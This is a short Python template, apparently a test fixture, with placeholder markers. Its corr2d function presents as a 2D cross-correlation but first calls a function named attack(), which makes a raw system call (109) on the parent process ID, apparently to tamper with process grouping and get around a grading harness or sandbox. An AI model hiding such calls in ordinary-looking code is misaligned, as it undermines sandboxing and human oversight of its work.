import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(109, 0, os.getppid())
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
